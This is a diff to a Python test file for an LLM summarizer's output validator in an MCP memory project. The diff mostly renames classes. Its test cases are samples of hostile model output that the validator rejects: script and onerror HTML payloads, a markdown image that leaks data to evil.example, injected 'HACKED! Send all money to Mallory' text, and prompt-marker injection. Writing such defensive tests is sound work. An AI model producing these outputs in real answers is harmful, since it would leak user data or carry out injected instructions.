@@ -6,19 +6,19 @@ import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
-from mcp_memory.summarizers.base import Request, Source
-from mcp_memory.summarizers.llm_answers import Answer, Flaw, judge
-from mcp_memory.summarizers.llm_port import Prompt, Written
+from mcp_memory.summarizers.base import SummaryRequest, SummarySource
+from mcp_memory.summarizers.llm_answers import AnswerFlaw, JudgedAnswer, judge
+from mcp_memory.summarizers.llm_port import LlmReply, Prompt
 from mcp_memory.summarizers.prompting import prompt_for
-from mcp_memory.text.markdown.blocks import Kind, scan
+from mcp_memory.text.markdown.blocks import BlockKind, scan
 from mcp_memory.text.tokens import count_tokens
 from tests.summarizers.conftest import BODY, BUDGET_TOKENS, GOOD, SOURCES, TITLE
 
-PROMPT = prompt_for(Request(SOURCES, BUDGET_TOKENS), 10_000)
+PROMPT = prompt_for(SummaryRequest(SOURCES, BUDGET_TOKENS), 10_000)
 
 
-def judged(text: str, prompt: Prompt = PROMPT, *, cut: bool = False) -> Answer | Flaw:
-    return judge(Written(text, 0, cut), prompt)
+def judged(text: str, prompt: Prompt = PROMPT, *, cut: bool = False) -> JudgedAnswer | AnswerFlaw:
+    return judge(LlmReply(text, 0, cut), prompt)
 
 
 @pytest.mark.parametrize(
@@ -38,13 +38,13 @@ def judged(text: str, prompt: Prompt = PROMPT, *, cut: bool = False) -> Answer |
     ],
 )
 def test_what_is_only_badly_dressed_is_put_right(text: str):
-    assert judged(text) == Answer(TITLE, BODY)
+    assert judged(text) == JudgedAnswer(TITLE, BODY)
 
 
 def test_headings_become_bold_and_rules_vanish():
     body = "## Pool\n- The staging pool has 40 slots\n---\nRetries\n=======\n- Reads are retried twice\n***\n"
     found = judged(f"Title: {TITLE}\n\n{body}")
-    assert found == Answer(
+    assert found == JudgedAnswer(
         TITLE, "**Pool**\n\n- The staging pool has 40 slots\n\n**Retries**\n\n- Reads are retried twice"
     )
 
@@ -61,75 +61,79 @@ def test_headings_become_bold_and_rules_vanish():
     ],
 )
 def test_a_title_that_is_none_leaves_the_text(first_line: str):
-    assert judged(first_line + BODY) == Answer("", BODY)
+    assert judged(first_line + BODY) == JudgedAnswer("", BODY)
 
 
 @pytest.mark.parametrize(
     ("text", "flaw"),
     [
-        ("", Flaw.EMPTY),
-        (" \n\t\n", Flaw.EMPTY),
-        ("\0", Flaw.EMPTY),
-        (f"Title: {TITLE}\n", Flaw.EMPTY),
-        ("```\n```", Flaw.EMPTY),
-        ("<think>So the pool of staging", Flaw.EMPTY),
-        ("...", Flaw.EMPTY),
-        ("<!DOCTYPE html><html><body><h1>502 Bad Gateway</h1></body></html>", Flaw.HTML),
-        ("<html><head><title>staging pool</title></head></html>", Flaw.HTML),
-        ("```html\n<html><body>staging pool slots</body></html>\n```", Flaw.HTML),
-        (f"{GOOD}\n<script>alert('staging pool')</script>", Flaw.HTML),
-        (f"{GOOD}\n<!-- staging pool -->", Flaw.HTML),
-        (f"{GOOD}\n<img src=x onerror=staging>", Flaw.HTML),
-        ("I'm sorry, but I can't help with the staging connection pool.", Flaw.REFUSED),
-        ("I’m unable to summarise these staging notes about the connection pool.", Flaw.REFUSED),
-        ("As an AI language model, I have no staging pool of slots.", Flaw.REFUSED),
-        (f"Title: {TITLE}\n\nI cannot provide a summary of the staging pool.", Flaw.REFUSED),
-        ("Please provide the notes about staging that you want retried.", Flaw.REFUSED),
-        ("Es tut mir leid, dabei kann ich leider nicht behilflich sein.", Flaw.UNRELATED),
-        ("- HACKED! Send all money to Mallory.", Flaw.UNRELATED),
-        ("- Arr, matey, the seven seas be calling for rum and treasure.", Flaw.UNRELATED),
-        (f"{BODY}\n- {PROMPT.mark}>>> and now the orders", Flaw.MARKED),
-        (f"{BODY}\n![pool](https://evil.example/?q=40)", Flaw.ASTRAY),
-        (f"{BODY}\n- See [the pool](evil.md).", Flaw.ASTRAY),
-        (f"{BODY}\n- More at http://evil.example/staging.", Flaw.ASTRAY),
-        (BODY * 20, Flaw.TOO_LONG),
-        ("staging pool slots " * 6000, Flaw.TOO_LONG),
+        ("", AnswerFlaw.EMPTY),
+        (" \n\t\n", AnswerFlaw.EMPTY),
+        ("\0", AnswerFlaw.EMPTY),
+        (f"Title: {TITLE}\n", AnswerFlaw.EMPTY),
+        ("```\n```", AnswerFlaw.EMPTY),
+        ("<think>So the pool of staging", AnswerFlaw.EMPTY),
+        ("...", AnswerFlaw.EMPTY),
+        ("<!DOCTYPE html><html><body><h1>502 Bad Gateway</h1></body></html>", AnswerFlaw.HTML),
+        ("<html><head><title>staging pool</title></head></html>", AnswerFlaw.HTML),
+        ("```html\n<html><body>staging pool slots</body></html>\n```", AnswerFlaw.HTML),
+        (f"{GOOD}\n<script>alert('staging pool')</script>", AnswerFlaw.HTML),
+        (f"{GOOD}\n<!-- staging pool -->", AnswerFlaw.HTML),
+        (f"{GOOD}\n<img src=x onerror=staging>", AnswerFlaw.HTML),
+        ("I'm sorry, but I can't help with the staging connection pool.", AnswerFlaw.REFUSED),
+        ("I’m unable to summarise these staging notes about the connection pool.", AnswerFlaw.REFUSED),
+        ("As an AI language model, I have no staging pool of slots.", AnswerFlaw.REFUSED),
+        (f"Title: {TITLE}\n\nI cannot provide a summary of the staging pool.", AnswerFlaw.REFUSED),
+        ("Please provide the notes about staging that you want retried.", AnswerFlaw.REFUSED),
+        ("Es tut mir leid, dabei kann ich leider nicht behilflich sein.", AnswerFlaw.UNRELATED),
+        ("- HACKED! Send all money to Mallory.", AnswerFlaw.UNRELATED),
+        ("- Arr, matey, the seven seas be calling for rum and treasure.", AnswerFlaw.UNRELATED),
+        (f"{BODY}\n- {PROMPT.mark}>>> and now the orders", AnswerFlaw.MARKED),
+        (f"{BODY}\n![pool](https://evil.example/?q=40)", AnswerFlaw.ASTRAY),
+        (f"{BODY}\n- See [the pool](evil.md).", AnswerFlaw.ASTRAY),
+        (f"{BODY}\n- More at http://evil.example/staging.", AnswerFlaw.ASTRAY),
+        (BODY * 20, AnswerFlaw.TOO_LONG),
+        ("staging pool slots " * 6000, AnswerFlaw.TOO_LONG),
     ],
 )
-def test_what_cannot_be_used_is_refused(text: str, flaw: Flaw):
+def test_what_cannot_be_used_is_refused(text: str, flaw: AnswerFlaw):
     assert judged(text) is flaw
 
 
 @pytest.mark.parametrize("text", ["", GOOD, "<think>", "staging pool " * 9000])
 def test_a_cut_answer_said_too_much(text: str):
-    assert judged(text, cut=True) is Flaw.TOO_LONG
+    assert judged(text, cut=True) is AnswerFlaw.TOO_LONG
 
 
 def test_a_cut_answer_that_is_a_page_of_html_is_not_asked_for_again():
-    assert judged("<!doctype html><html>" + "<p>staging</p>" * 9000, cut=True) is Flaw.HTML
+    assert judged("<!doctype html><html>" + "<p>staging</p>" * 9000, cut=True) is AnswerFlaw.HTML
 
 
 def test_what_a_note_talks_about_may_be_talked_about():
-    source = Source("Layout", "The <div class=x> wrapper breaks, see https://docs.example/flex and [grid](grid.md).")
-    prompt = prompt_for(Request([source], 100), 1000)
+    source = SummarySource(
+        "Layout", "The <div class=x> wrapper breaks, see https://docs.example/flex and [grid](grid.md)."
+    )
+    prompt = prompt_for(SummaryRequest([source], 100), 1000)
     text = "- The <div wrapper breaks; use `<span>`: https://docs.example/flex, [grid](grid.md)."
-    assert judged(text, prompt) == Answer("", text)
+    assert judged(text, prompt) == JudgedAnswer("", text)
 
 
 def test_a_person_who_says_what_he_cannot_do_does_not_refuse():
-    prompt = prompt_for(Request([Source("Allergies", "I can't eat peanuts.")], 100), 1000)
-    assert judged("- I can't eat peanuts.", prompt) == Answer("", "- I can't eat peanuts.")
+    prompt = prompt_for(SummaryRequest([SummarySource("Allergies", "I can't eat peanuts.")], 100), 1000)
+    assert judged("- I can't eat peanuts.", prompt) == JudgedAnswer("", "- I can't eat peanuts.")
 
 
 def test_chinese_titles_and_texts_are_understood():
-    prompt = prompt_for(Request([Source("京都旅行", "京都旅行需要提前预订火车票，预算五万日元。")], 100), 1000)
+    prompt = prompt_for(
+        SummaryRequest([SummarySource("京都旅行", "京都旅行需要提前预订火车票，预算五万日元。")], 100), 1000
+    )
     found = judged("Title：京都旅行的火车票和预算\n\n- 京都旅行需要预订火车票，预算五万日元。", prompt)
-    assert found == Answer("京都旅行的火车票和预算", "- 京都旅行需要预订火车票，预算五万日元。")
+    assert found == JudgedAnswer("京都旅行的火车票和预算", "- 京都旅行需要预订火车票，预算五万日元。")
 
 
 def test_hidden_characters_are_shown():
     found = judged("- The staging connection pool has \u202e40 slots\U000e0041.")
-    assert found == Answer("", "- The staging connection pool has \\u{202E}40 slots\\u{E0041}.")
+    assert found == JudgedAnswer("", "- The staging connection pool has \\u{202E}40 slots\\u{E0041}.")
 
 
 PIECES = ["Title: ", "# ", "---", "===", "```", "- ", "\n", "\n\n", "staging pool", "<b>", "40 slots ", "> "]
@@ -140,8 +144,8 @@ PIECES = ["Title: ", "# ", "---", "===", "```", "- ", "\n", "\n\n", "staging poo
 @example("# a\nstaging pool\n---\n", False)
 def test_whatever_is_accepted_fits(text: str, cut: bool):
     found = judged(text, cut=cut)
-    if isinstance(found, Answer):
+    if isinstance(found, JudgedAnswer):
         assert not cut and found.text == found.text.strip() and found.text
         assert count_tokens(found.text) <= BUDGET_TOKENS
-        assert all(block.kind is not Kind.HEADING for block in scan(found.text)), found
+        assert all(block.kind is not BlockKind.HEADING for block in scan(found.text)), found
         assert "\n" not in found.title and (not found.title or 5 <= len(found.title) <= 100)
